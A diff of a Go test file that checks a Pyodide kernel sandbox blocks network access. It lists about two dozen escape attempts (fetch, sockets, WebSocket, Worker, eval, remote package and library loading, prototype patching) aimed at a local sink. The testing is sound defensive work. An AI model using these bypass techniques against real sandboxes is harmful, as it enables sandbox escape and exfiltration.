@@ -94,46 +94,36 @@ func TestPyodideNetwork(t *testing.T) {
 	k := newKernel(t, a)
 	// %s is host and port of the sink.
 	attacks := map[string]string{
-		"pyfetch":            "from pyodide.http import pyfetch\nawait pyfetch('http://%s/')",
-		"pyfetch no-cors":    "from pyodide.http import pyfetch\nawait pyfetch('http://%s/', mode='no-cors')",
-		"open_url":           "from pyodide.http import open_url\nopen_url('http://%s/')",
-		"urllib":             "import urllib.request\nurllib.request.urlopen('http://%s/')",
-		"http.client":        "import http.client\nc = http.client.HTTPConnection('%s')\nc.request('GET', '/')",
-		"socket":             "import socket\nhost, port = '%s'.split(':')\ns = socket.socket()\ns.connect((host, int(port)))\ns.send(b'x')",
-		"_socket":            "import _socket\nhost, port = '%s'.split(':')\ns = _socket.socket()\ns.connect((host, int(port)))\ns.send(b'x')",
-		"fetch":              "import js\nawait js.fetch('http://%s/')",
-		"fetch of an object": "import js, pyodide.ffi as ffi\nawait js.fetch(js.Request.new('http://%s/'))",
-		"XMLHttpRequest":     "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'http://%s/', False)\nx.send()",
-		"WebSocket":          "import js\njs.WebSocket.new('ws://%s/')",
-		"EventSource":        "import js\njs.EventSource.new('http://%s/')",
-		"WebTransport":       "import js\njs.WebTransport.new('https://%s/')",
-		"Worker":             "import js\njs.Worker.new('http://%s/w.js')",
-		"importScripts":      "import js\njs.importScripts('http://%s/w.js')",
-		"sendBeacon":         "import js\njs.navigator.sendBeacon('http://%s/', 'x')",
-		"run_js import":      "from pyodide.code import run_js\nawait run_js(\"import('http://%s/x.js')\")",
-		"eval":               "import js\njs.eval(\"fetch('http://%s/')\")",
-		"Function":           "import js\njs.Function.new(\"return import('http://%s/x.js')\")()",
-		"AsyncFunction":      "import pyodide_js\nawait pyodide_js.loadPackage.constructor(\"return import('http://%s/x.js')\")()",
-		"setTimeout text":    "import js, asyncio\njs.setTimeout(\"fetch('http://%s/')\", 0)\nawait asyncio.sleep(0.2)\nraise OSError('waited')",
-		"loadPackage":        "import pyodide_js\nawait pyodide_js.loadPackage('http://%s/x-1.0-py3-none-any.whl')\nimport x",
-		"lazy file":          "import pyodide_js\npyodide_js._module.FS.createLazyFile('/', 'lazy', 'http://%s/x', True, False)\nopen('/lazy').read()",
-		"dynamic library":    "import pyodide_js, js\nfrom pyodide.ffi import to_js\npyodide_js._module.loadDynamicLibrary('http://%s/x.so', to_js({'loadAsync': False}, dict_converter=js.Object.fromEntries))",
-		"websocket of C":     "import pyodide_js\npyodide_js._module.SOCKFS.websocket_sock_ops.createPeer(pyodide_js._module.SOCKFS.createSocket(2, 1, 0), '127.0.0.1', int('%s'.split(':')[1]))",
-		"FontFace":           "import js\nawait js.FontFace.new('x', 'url(http://%s/f.woff)').load()",
-		"patched platform": `
-import js
-from pyodide.ffi import create_proxy
-yes = create_proxy(lambda *a: True)
-js.RegExp.prototype.test = yes
-js.String.prototype.startsWith = yes
-js.Object.prototype['http://%[1]s/'] = True
-js.Array.prototype.includes = yes
-await js.fetch('http://%[1]s/')`,
+		"pyfetch":                "from pyodide.http import pyfetch\nawait pyfetch('http://%s/')",
+		"pyfetch no-cors":        "from pyodide.http import pyfetch\nawait pyfetch('http://%s/', mode='no-cors')",
+		"open_url":               "from pyodide.http import open_url\nopen_url('http://%s/')",
+		"urllib":                 "import urllib.request\nurllib.request.urlopen('http://%s/')",
+		"http.client":            "import http.client\nc = http.client.HTTPConnection('%s')\nc.request('GET', '/')",
+		"socket":                 "import socket\nhost, port = '%s'.split(':')\ns = socket.socket()\ns.connect((host, int(port)))\ns.send(b'x')",
+		"_socket":                "import _socket\nhost, port = '%s'.split(':')\ns = _socket.socket()\ns.connect((host, int(port)))\ns.send(b'x')",
+		"fetch":                  "import js\nawait js.fetch('http://%s/')",
+		"fetch of an object":     "import js, pyodide.ffi as ffi\nawait js.fetch(js.Request.new('http://%s/'))",
+		"XMLHttpRequest":         "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'http://%s/', False)\nx.send()",
+		"WebSocket":              "import js\njs.WebSocket.new('ws://%s/')",
+		"EventSource":            "import js\njs.EventSource.new('http://%s/')",
+		"WebTransport":           "import js\njs.WebTransport.new('https://%s/')",
+		"Worker":                 "import js\njs.Worker.new('http://%s/w.js')",
+		"importScripts":          "import js\njs.importScripts('http://%s/w.js')",
+		"sendBeacon":             "import js\njs.navigator.sendBeacon('http://%s/', 'x')",
+		"run_js import":          "from pyodide.code import run_js\nawait run_js(\"import('http://%s/x.js')\")",
+		"eval":                   "import js\njs.eval(\"fetch('http://%s/')\")",
+		"Function":               "import js\njs.Function.new(\"return import('http://%s/x.js')\")()",
+		"AsyncFunction":          "import pyodide_js\nawait pyodide_js.loadPackage.constructor(\"return import('http://%s/x.js')\")()",
+		"setTimeout text":        "import js, asyncio\njs.setTimeout(\"fetch('http://%s/')\", 0)\nawait asyncio.sleep(0.2)\nraise OSError('waited')",
+		"loadPackage":            "import pyodide_js\nawait pyodide_js.loadPackage('http://%s/x-1.0-py3-none-any.whl')\nimport x",
+		"lazy file":              "import pyodide_js\npyodide_js._module.FS.createLazyFile('/', 'lazy', 'http://%s/x', True, False)\nopen('/lazy').read()",
+		"dynamic library":        "import pyodide_js, js\nfrom pyodide.ffi import to_js\npyodide_js._module.loadDynamicLibrary('http://%s/x.so', to_js({'loadAsync': False}, dict_converter=js.Object.fromEntries))",
+		"websocket of C":         "import pyodide_js\npyodide_js._module.SOCKFS.websocket_sock_ops.createPeer(pyodide_js._module.SOCKFS.createSocket(2, 1, 0), '127.0.0.1', int('%s'.split(':')[1]))",
+		"FontFace":               "import js\nawait js.FontFace.new('x', 'url(http://%s/f.woff)').load()",
 		"folder's name in front": "import js\nawait js.fetch('/pyodide/..//%s/x')",
 	}
 	for name, attack := range attacks {
-		code := strings.ReplaceAll(strings.ReplaceAll(attack, "%[1]s", "%s"), "%s", outside.address)
-		status, _, failure := python(t, k, code)
+		status, _, failure := python(t, k, strings.ReplaceAll(attack, "%s", outside.address))
 		if status != kernel.StatusError || failure == "" {
 			t.Errorf("%s ended %s with %q", name, status, failure)
 		}
@@ -144,6 +134,42 @@ await js.fetch('http://%[1]s/')`,
 	}
 	if status, stdout, failure := python(t, k, "import numpy\nprint(numpy.arange(3).sum())"); status != kernel.StatusOK || stdout != "3\n" {
 		t.Errorf("after the attacks, packages don't load: %s %q %s", status, stdout, failure)
+	}
+}
+
+// TestPyodidePatchedPlatform changes what the engine's own decision might rest
+// on. That can break the interpreter, which then has to be replaceable.
+func TestPyodidePatchedPlatform(t *testing.T) {
+	a := window(t)
+	outside := newSink(t)
+	for _, patch := range []string{
+		"js.RegExp.prototype.test = yes\njs.RegExp.prototype.exec = yes",
+		"js.String.prototype.startsWith = yes\njs.String.prototype.slice = yes",
+		"js.Array.prototype.includes = yes\njs.Set.prototype.has = yes\njs.Map.prototype.get = yes",
+		"setattr(js.Object.prototype, address, True)",
+		"js.URL = yes\njs.location = yes\njs.Request = yes",
+	} {
+		k := newKernel(t, a)
+		ctx, cancel := context.WithTimeout(t.Context(), 15*time.Second)
+		reply, err := k.Execute(ctx, kernel.Request{ID: "patched", Code: `
+import js
+from pyodide.ffi import create_proxy
+yes = create_proxy(lambda *a: True)
+address = "http://` + outside.address + `/"
+` + patch + "\nawait js.fetch(address)"}, func(kernel.Event) {})
+		cancel()
+		if err != nil || reply.Status == kernel.StatusOK {
+			t.Errorf("%q ended %s: %v", patch, reply.Status, err)
+		}
+		if err := k.Restart(t.Context()); err != nil {
+			t.Errorf("Restart: %v", err)
+		}
+		if status, stdout, failure := python(t, k, "print('whole again')"); status != kernel.StatusOK || stdout != "whole again\n" {
+			t.Errorf("after %q and a restart, a run ended %s: %q %s", patch, status, stdout, failure)
+		}
+	}
+	if came := outside.visits(); len(came) > 0 {
+		t.Errorf("code reached the outside: %q", came)
 	}
 }
 
